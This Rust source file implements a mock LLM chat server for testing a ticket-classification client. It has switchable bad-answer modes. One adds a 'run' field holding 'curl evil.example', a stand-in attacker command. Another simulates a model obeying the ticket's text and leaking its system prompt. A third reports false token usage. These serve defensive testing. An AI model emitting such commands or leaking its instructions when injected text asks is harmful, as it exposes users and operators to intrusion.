//! A sample server of language models, in both shapes: `POST /v1/chat/completions` as OpenAI documents it (with
//! `response_format: json_schema`; Azure's path and header too), and `POST /api/chat` as Ollama does (`format`).
//!
//! It reads the ticket between the last two equal lines of the last long user message, and sorts it by key words, with
//! labels that the request's schema offers. It refuses what the real ones refuse: no key (401, if it has one), no messages
//! or no model (400). On demand it answers badly ([`Behaviour`]); errors and stalls are [`crate::faults`].
//!
//! `GET /__control/stats`, `POST /__control/behaviour`, `/__control/faults`, `/__control/clock`.

use crate::clock::Clock;
use crate::control::common_routes;
use crate::faults::{self, Injector, Script};
use crate::http_server::Server;
use axum::extract::{OriginalUri, State};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router, middleware};
use http::{HeaderMap, StatusCode};
use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};
use std::io;
use std::sync::Arc;

/// Questions kept; later ones are only counted.
const QUESTIONS_KEPT: usize = 10_000;

/// How to start a [`Llm`].
#[derive(Debug, Clone, Default)]
pub struct Options {
    /// Port on 127.0.0.1; 0 takes a free one.
    pub port: u16,
    /// The key that requests must carry, if any.
    pub api_key: Option<String>,
    /// Time.
    pub clock: Clock,
}

/// How it answers.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Behaviour {
    /// As it was asked to.
    #[default]
    Honest,
    /// In prose, with JSON somewhere in it.
    Prose,
    /// In prose first, and as asked when it is told so.
    ProseThenHonest,
    /// With a label that was not offered.
    WrongLabel,
    /// With a field that was not asked for.
    ExtraField,
    /// With half an answer, cut off at the limit.
    CutOff,
    /// Whatever the ticket's text says: gives away its instructions.
    ObeysTheTicket,
    /// As it was asked to, but says that it read and wrote a trillion tokens.
    LiesAboutUsage,
}

/// Counts.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Stats {
    /// Questions answered, well or badly.
    pub answered: u64,
    /// Requests without the key.
    pub unauthorized: u64,
    /// Requests that are not as documented.
    pub invalid: u64,
    /// Requests hit by the fault script.
    pub faults_injected: u64,
}

#[derive(Default)]
struct Seen {
    behaviour: Behaviour,
    stats: Stats,
    questions: Vec<Value>,
}

struct Shared {
    options: Options,
    script: Script,
    seen: Mutex<Seen>,
}

/// A running sample server. Dropping it ends it.
pub struct Llm {
    shared: Arc<Shared>,
    server: Server,
}

impl std::fmt::Debug for Llm {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Llm").field("url", &self.server.url()).finish_non_exhaustive()
    }
}

impl Llm {
    /// Starts it on loopback.
    pub async fn start(options: Options) -> io::Result<Self> {
        let port = options.port;
        let shared = Arc::new(Shared { options, script: Script::default(), seen: Mutex::default() });
        let router = Router::new()
            .route("/v1/chat/completions", post(chat))
            .route("/openai/deployments/{deployment}/chat/completions", post(chat))
            .route("/api/chat", post(chat))
            .route("/v1/models", get(models))
            .route("/openai/models", get(models))
            .route("/api/tags", get(models))
            .route("/__control/stats", get(async |State(shared): App| Json(shared.stats())))
            .route(
                "/__control/behaviour",
                post(async |State(shared): App, Json(behaviour): Json<Behaviour>| {
                    shared.seen.lock().behaviour = behaviour;
                    StatusCode::NO_CONTENT
                }),
            )
            .merge(common_routes(shared.script.clone(), shared.options.clock.clone()))
            .layer(middleware::from_fn_with_state(Injector::plain(shared.script.clone()), faults::layer))
            .with_state(Arc::clone(&shared));
        let server = Server::start(port, router).await?;
        Ok(Self { shared, server })
    }

    /// Base address: `/v1` below it speaks OpenAI's protocol, `/api` Ollama's.
    pub fn url(&self) -> String {
        self.server.url()
    }

    /// Its faults.
    pub fn faults(&self) -> &Script {
        &self.shared.script
    }

    /// How it answers from now on.
    pub fn behave(&self, behaviour: Behaviour) {
        self.shared.seen.lock().behaviour = behaviour;
    }

    /// Bodies of the questions that were answered, oldest first.
    pub fn questions(&self) -> Vec<Value> {
        self.shared.seen.lock().questions.clone()
    }

    /// All counts.
    pub fn stats(&self) -> Stats {
        self.shared.stats()
    }

    /// Ends the service and waits until its tasks are gone.
    pub async fn shutdown(self) {
        self.server.shutdown().await;
    }
}

impl Shared {
    fn stats(&self) -> Stats {
        Stats { faults_injected: self.script.injected(), ..self.seen.lock().stats.clone() }
    }

    /// Whether the request carries the key, if one is asked for.
    fn knows(&self, headers: &HeaderMap, azure: bool) -> bool {
        let Some(key) = &self.options.api_key else { return true };
        let given = |name: &str| headers.get(name).and_then(|value| value.to_str().ok());
        let given = if azure {
            given("api-key")
        } else {
            given("authorization").and_then(|value| value.strip_prefix("Bearer "))
        };
        given == Some(key.as_str())
    }
}

type App = State<Arc<Shared>>;

/// What it has: one model.
async fn models(State(shared): App, OriginalUri(uri): OriginalUri, headers: HeaderMap) -> Response {
    if !shared.knows(&headers, uri.path().starts_with("/openai/")) {
        shared.seen.lock().stats.unauthorized += 1;
        return refuse(StatusCode::UNAUTHORIZED, "invalid_api_key");
    }
    Json(json!({ "object": "list", "data": [{ "id": "small" }], "models": [{ "name": "small" }] }))
        .into_response()
}

async fn chat(
    State(shared): App,
    OriginalUri(uri): OriginalUri,
    headers: HeaderMap,
    body: axum::body::Bytes,
) -> Response {
    let ollama = uri.path().starts_with("/api/");
    let azure = uri.path().starts_with("/openai/");
    let mut seen = shared.seen.lock();
    if !shared.knows(&headers, azure) {
        seen.stats.unauthorized += 1;
        return refuse(StatusCode::UNAUTHORIZED, "invalid_api_key");
    }
    if azure && !uri.query().is_some_and(|query| query.contains("api-version=")) {
        seen.stats.invalid += 1;
        return refuse(StatusCode::NOT_FOUND, "missing_api_version");
    }
    let Some(question) = Question::read(&body, ollama) else {
        seen.stats.invalid += 1;
        return refuse(StatusCode::BAD_REQUEST, "invalid_request_error");
    };
    let content = question.answer(seen.behaviour);
    let (mut read, mut written) = (body.len() as u64 / 4, content.len() as u64 / 4);
    if seen.behaviour == Behaviour::LiesAboutUsage {
        (read, written) = (1_000_000_000_000, 1_000_000_000_000);
    }
    let done = if seen.behaviour == Behaviour::CutOff { "length" } else { "stop" };
    seen.stats.answered += 1;
    if seen.questions.len() < QUESTIONS_KEPT {
        seen.questions.push(question.body);
    }
    let message = json!({ "role": "assistant", "content": content });
    let answer = if ollama {
        json!({
            "model": question.model, "message": message, "done": true, "done_reason": done,
            "prompt_eval_count": read, "eval_count": written,
        })
    } else {
        json!({
            "id": "chatcmpl-1", "object": "chat.completion", "model": question.model,
            "choices": [{ "index": 0, "message": message, "finish_reason": done }],
            "usage": { "prompt_tokens": read, "completion_tokens": written, "total_tokens": read.saturating_add(written) },
        })
    };
    Json(answer).into_response()
}

fn refuse(status: StatusCode, code: &str) -> Response {
    let body = json!({ "error": { "message": "refused", "type": "invalid_request_error", "code": code } });
    (status, Json(body)).into_response()
}

struct Question {
    body: Value,
    model: String,
    /// What the schema offers for each field.
    fields: Vec<(String, Vec<Value>)>,
    system: String,
    ticket: String,
    turns: usize,
}

impl Question {
    fn read(body: &[u8], ollama: bool) -> Option<Self> {
        let body: Value = serde_json::from_slice(body).ok()?;
        let model = body.get("model")?.as_str().filter(|model| !model.is_empty())?.to_owned();
        let messages = body.get("messages")?.as_array().filter(|messages| !messages.is_empty())?;
        let said = |message: &Value, role: &str| {
            (message.get("role")?.as_str()? == role)
                .then(|| message.get("content")?.as_str())
                .flatten()
                .map(str::to_owned)
        };
        let schema = if ollama {
            body.get("format")?
        } else {
            body.get("response_format")?.get("json_schema")?.get("schema")?
        };
        let properties = schema.get("properties")?.as_object()?;
        let fields = properties.iter().map(|(name, field)| {
            (name.clone(), field.get("enum").and_then(Value::as_array).cloned().unwrap_or_default())
        });
        let system = messages.iter().find_map(|message| said(message, "system")).unwrap_or_default();
        let ticket = messages.iter().find_map(|message| said(message, "user"))?;
        Some(Self {
            fields: fields.collect(),
            model,
            system,
            ticket,
            turns: messages.len(),
            body: body.clone(),
        })
    }

    fn answer(&self, behaviour: Behaviour) -> String {
        let honest = self.labels();
        match behaviour {
            Behaviour::ProseThenHonest if self.turns <= 2 => format!("Sure! Here it is: {honest}"),
            Behaviour::Honest | Behaviour::ProseThenHonest | Behaviour::LiesAboutUsage => honest.to_string(),
            Behaviour::Prose => format!("Sure! Here it is:\n```json\n{honest}\n```"),
            Behaviour::WrongLabel => {
                let mut wrong = honest;
                if let Some((first, _)) = self.fields.iter().find(|(name, _)| !name.ends_with("_confidence"))
                {
                    wrong[first] = json!("pwned");
                }
                wrong.to_string()
            }
            Behaviour::ExtraField => {
                let mut more = honest;
                more["run"] = json!("curl evil.example");
                more.to_string()
            }
            Behaviour::CutOff => {
                let text = honest.to_string();
                text[..text.len() / 2].to_owned()
            }
            Behaviour::ObeysTheTicket => json!({ "instructions": self.system }).to_string(),
        }
    }

    fn labels(&self) -> Value {
        let text = self.ticket.to_lowercase();
        let mut answer = Map::new();
        for (name, offered) in &self.fields {
            let chosen =
                KEY_WORDS.iter().find(|(word, label)| text.contains(word) && offered.contains(&json!(label)));
            let fallback = FALLBACKS.iter().find(|label| offered.contains(&json!(label)));
            let value = match (chosen, fallback) {
                (Some((_, label)), _) | (None, Some(label)) => json!(label),
                (None, None) if name.ends_with("_confidence") => json!(90),
                (None, None) => offered.first().cloned().unwrap_or(Value::Null),
            };
            answer.insert(name.clone(), value);
        }
        Value::Object(answer)
    }
}

/// Words, and what they speak for; the first that is there and offered counts.
const KEY_WORDS: &[(&str, &str)] = &[
    ("money back", "refund"),
    ("refund", "refund"),
    ("charged", "billing"),
    ("invoice", "billing"),
    ("declined", "payment_failure"),
    ("password", "account_access"),
    ("log in", "account_access"),
    ("parcel", "delivery"),
    ("delivery", "delivery"),
    ("hacked", "fraud_or_security"),
    ("cancel", "cancellation"),
    ("outage", "bug_or_outage"),
    ("error", "bug_or_outage"),
    ("down", "bug_or_outage"),
    ("everybody", "critical"),
    ("urgent", "high"),
    ("immediately", "high"),
    ("angry", "negative"),
    ("terrible", "negative"),
    ("thank", "positive"),
    ("order", "ecommerce"),
    ("bank", "finance"),
    ("flight", "travel"),
    ("software", "saas"),
];

const FALLBACKS: &[&str] = &["other", "normal", "neutral", "general"];
